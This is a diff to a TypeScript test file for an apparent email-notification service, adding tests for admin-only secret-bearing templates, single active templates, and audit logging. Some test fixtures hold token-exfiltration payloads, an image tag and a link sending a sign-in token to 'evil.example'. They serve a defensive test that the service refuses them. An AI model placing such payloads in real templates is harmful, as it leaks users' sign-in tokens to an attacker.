@@ -4,7 +4,7 @@ import { AppError } from '@wayfare/kit/errors';
 import { createTestDb } from '@wayfare/kit/test-db';
 import { createTestIdentity, startTestServer } from '@wayfare/kit/test-server';
 import { NotificationEvent } from '@wayfare/proto/notification/v1/notification_events';
-import { NotificationServiceService } from '@wayfare/proto/notification/v1/notification_service';
+import { NotificationServiceService, type TemplateInput } from '@wayfare/proto/notification/v1/notification_service';
 import { pino } from 'pino';
 import { createWorkOffTask } from '../src/app/work-off-task.ts';
 import { createWriteMail } from '../src/app/write-mail.ts';
@@ -13,6 +13,7 @@ import { createMailer } from '../src/clients/mailer.ts';
 import { createMailedTexter } from '../src/clients/texter.ts';
 import { createReminderStops } from '../src/db/reminder-stops.ts';
 import { addTask } from '../src/db/task-queue.ts';
+import { createTemplateChanges } from '../src/db/template-changes.ts';
 import { createTemplateRepository } from '../src/db/template-repository.ts';
 import { buildServices } from '../src/server.ts';
 import { createWorkOnce } from '../src/worker.ts';
@@ -48,6 +49,7 @@ const start = async () => {
     mailer,
     texter: createMailedTexter(mailer),
     templates,
+    findChange: (id) => createTemplateChanges().get(db, id),
     reminderStops: createReminderStops(db),
     addTask: (task) => addTask(db, task),
     writeMail: createWriteMail({ templates, brand: 'Wayfare', log }),
@@ -84,11 +86,12 @@ beforeAll(async () => {
 });
 afterAll(() => run?.stop());
 beforeEach(async () => {
-  await run.db.raw('truncate task, email_template, reminder_stop, inbox, outbox');
+  await run.db.raw('truncate task, email_template, template_change, reminder_stop, inbox, outbox');
   run.catcher.mails.length = 0;
   run.catcher.refuse(false);
   run.accounts.known.clear();
   run.accounts.staff.clear();
+  run.accounts.administrators.clear();
   run.accounts.goAway(false);
   run.contact.now = aContact();
   run.contact.clock = undefined;
@@ -431,7 +434,7 @@ describe('templates', () => {
 
   it('are created, listed newest first, changed and deleted', async () => {
     const first = await admin((api) => api.createTemplate(aTemplate()));
-    const second = await admin((api) => api.createTemplate(aTemplate({ templateName: 'Second' })));
+    const second = await admin((api) => api.createTemplate(aTemplate({ templateName: 'Second', isActive: false })));
     expect(first.details).toEqual(aTemplate());
     const changed = await admin((api) => api.updateTemplate({ id: first.id, details: aTemplate({ subject: 'New' }) }));
     expect(changed.details?.subject).toBe('New');
@@ -479,6 +482,92 @@ describe('templates', () => {
       await run.workOffAll();
     }
     expect(subjects().filter((subject) => /^Pa/.test(subject))).toEqual(['Pagado: 1a2b3c4d', 'Paid: 1a2b3c4d']);
+  });
+
+  const secret = (over: Partial<TemplateInput> = {}) =>
+    aTemplate({
+      templateType: 'magic_link',
+      subject: 'Sign in',
+      htmlContent: '<a href="{{CONFIRMATION_URL}}">In</a> {{TOKEN}}',
+      ...over,
+    });
+
+  it('that carry a secret are written by administrators alone', async () => {
+    const { id } = await admin((api) => api.createTemplate(secret()));
+    const other = await admin((api) => api.createTemplate(aTemplate({ isActive: false })));
+    const calls: (() => Promise<unknown>)[] = [
+      () => run.api.createTemplate(secret({ isActive: false })),
+      () => run.api.createTemplate(secret({ templateType: 'confirmation' })),
+      () => run.api.updateTemplate({ id, details: secret({ subject: 'Mine' }) }),
+      () => run.api.updateTemplate({ id, details: aTemplate({ isActive: false }) }),
+      () => run.api.updateTemplate({ id: other.id, details: secret({ isActive: false }) }),
+      () => run.api.deleteTemplate({ id }),
+      () => run.api.previewTemplate(secret()),
+      () => run.api.sendTestMail({ id }),
+    ];
+    for (const call of calls)
+      await expect(run.server.as({ roles: ['catalog'] }, call)).rejects.toMatchObject({
+        code: 'PERMISSION_DENIED',
+        reason: 'role-missing',
+      });
+    expect((await run.db('email_template').where({ id }).first()).subject).toBe('Sign in');
+    await run.server.as({ roles: ['catalog'] }, () => run.api.updateTemplate({ id: other.id, details: aTemplate() }));
+  });
+
+  it('that let a link or code out of the mail are refused, and the built-in letter is sent in their place', async () => {
+    const leaking = '<a href="{{CONFIRMATION_URL}}">In</a><img src="https://evil.example/?c={{TOKEN}}">';
+    const { id } = await admin((api) => api.createTemplate(secret({ htmlContent: leaking })));
+    const missing = secret({ isActive: false, htmlContent: '<a href="https://evil.example/?{{TOKEN}}">In</a>' });
+    await expect(admin((api) => api.createTemplate(missing))).rejects.toMatchObject({
+      reason: 'template-variable-misplaced',
+      details: { names: 'TOKEN' },
+    });
+    await paymentSucceeded(run.db);
+    await run.workOffAll();
+    const mailed = run.catcher.mails.find(({ subject }) => subject === 'Sign in');
+    expect(mailed?.content).toContain('https://visa.test/auth/link#token=');
+    expect(mailed?.content).not.toContain('evil');
+
+    await run.db('email_template').where({ id }).update({ html_content: '<a href="https://evil.example/?{{TOKEN}}">' });
+    run.catcher.mails.length = 0;
+    await paymentSucceeded(run.db);
+    await run.workOffAll();
+    expect(subjects()).toContain('Your sign-in link');
+    expect(run.catcher.mails.map(({ content }) => content).join()).not.toContain('evil');
+  });
+
+  it('are active once for each type and language', async () => {
+    const first = await admin((api) => api.createTemplate(aTemplate()));
+    const second = await admin((api) => api.createTemplate(aTemplate({ isActive: false })));
+    await admin((api) => api.createTemplate(aTemplate({ locale: 'es' })));
+    const refused = { code: 'ALREADY_EXISTS', reason: 'template-already-active' };
+    await expect(admin((api) => api.createTemplate(aTemplate()))).rejects.toMatchObject(refused);
+    const activate = () => admin((api) => api.updateTemplate({ id: second.id, details: aTemplate() }));
+    await expect(activate()).rejects.toMatchObject(refused);
+    await admin((api) => api.deleteTemplate({ id: first.id }));
+    expect((await activate()).details?.isActive).toBe(true);
+  });
+
+  it('are audited with each change, by their hash, and told to the other administrators', async () => {
+    run.accounts.administrators.set('a-1', 'first@example.test').set('a-2', 'second@example.test');
+    const as = <T>(work: () => Promise<T>) => run.server.as({ sub: 'a-1', roles: ['admin'] }, work);
+    const { id } = await as(() => run.api.createTemplate(aTemplate()));
+    await as(() => run.api.updateTemplate({ id, details: aTemplate({ htmlContent: '<p>Other words</p>' }) }));
+    await as(() => run.api.deleteTemplate({ id }));
+    await run.workOffAll();
+    const rows = await run.db('template_change').orderBy('changed_at');
+    expect(rows.map((row) => [row.action, row.changed_by, row.template_id])).toEqual([
+      ['created', 'a-1', id],
+      ['changed', 'a-1', id],
+      ['deleted', 'a-1', id],
+    ]);
+    expect(rows[0].content_hash).toMatch(/^[0-9a-f]{64}$/);
+    expect(rows[1].content_hash).not.toBe(rows[0].content_hash);
+    expect(rows[2].content_hash).toBe(rows[1].content_hash);
+    expect(JSON.stringify(rows)).not.toContain('Other words');
+    expect(run.catcher.mails.map(({ to }) => to)).toEqual(Array(3).fill('second@example.test'));
+    expect(subjects()[0]).toBe('Wayfare: the mail template receipt was changed');
+    expect(run.catcher.mails[0]?.content).toContain('first@example.test created the mail template receipt');
   });
 
   it('that are broken are passed over for our own letter', async () => {
